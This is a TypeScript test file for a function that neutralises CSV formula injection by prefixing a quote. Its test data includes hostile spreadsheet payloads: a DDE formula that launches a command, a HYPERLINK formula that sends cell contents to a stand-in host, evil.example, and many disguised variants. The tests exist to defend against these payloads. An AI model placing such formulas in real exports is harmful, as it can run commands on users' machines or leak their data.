import { stringify } from 'csv-stringify/sync'
import { describe, expect, test } from 'vitest'
import { safeCell } from '#app/domain/csv-cell.ts'

describe('what a spreadsheet would take for a formula becomes text', () => {
	test.for([
		['a formula', '=1+1', "'=1+1"],
		['a command', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
		[
			'a link that sends the cells away',
			'=HYPERLINK("https://evil.example/?"&A1,"x")',
			`'=HYPERLINK("https://evil.example/?"&A1,"x")`,
		],
		['a plus', '+1+cmd', "'+1+cmd"],
		['a minus', '-2+3', "'-2+3"],
		['an at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
		['a tab', '\t=1', "'\t'=1"],
		['a carriage return', '\r=1', "'\r'=1"],
		['a line feed', '\n=1', "'\n'=1"],
		['blanks before it', '   =1', "'   =1"],
		['a hard blank before it', '\u00a0=1', "'\u00a0=1"],
		['a direction mark before it', '\u200f=1', "'\u200f=1"],
		['an isolate round it', '\u2068=1\u2069', "'\u2068=1\u2069"],
		['a byte order mark before it', '\ufeff=1', "'\ufeff=1"],
		['a quotation mark before it', '"=1', `'"=1`],
		['a full-width sign', '＝1+1', "'＝1+1"],
		['a full-width at sign', '＠SUM(1)', "'＠SUM(1)"],
		['behind a semicolon, where some spreadsheets part cells', 'نص;=1+1', "نص;'=1+1"],
		['behind a tab', 'نص\t=1+1', "نص\t'=1+1"],
		['in a second line', 'نص\n@SUM(1)', "نص\n'@SUM(1)"],
		['a bar', '|calc', "'|calc"],
		['a percent sign', '%0A=1', "'%0A=1"],
	])('%s', ([, text = '', cell = '']) => expect(safeCell(text)).toBe(cell))
})

test.for([
	'',
	'سوق السمك',
	'2026-03-02T12:00:00.000Z',
	'40.27% من باعته نساء',
	'من 10 - إلى 20',
	'x = y + z',
	'a@paper.example',
	'«اقتباس»، ثم -5 درجات',
	'القيمة: =5',
])('%s is left alone', (text) => expect(safeCell(text)).toBe(text))

test('quotation marks, commas and line ends do not break a row', () => {
	const written = stringify([['a"b', 'c,d', 'e\nf', '']], {
		quoted: true,
		quoted_empty: true,
		record_delimiter: 'windows',
	})
	expect(written).toBe('"a""b","c,d","e\nf",""\r\n')
})
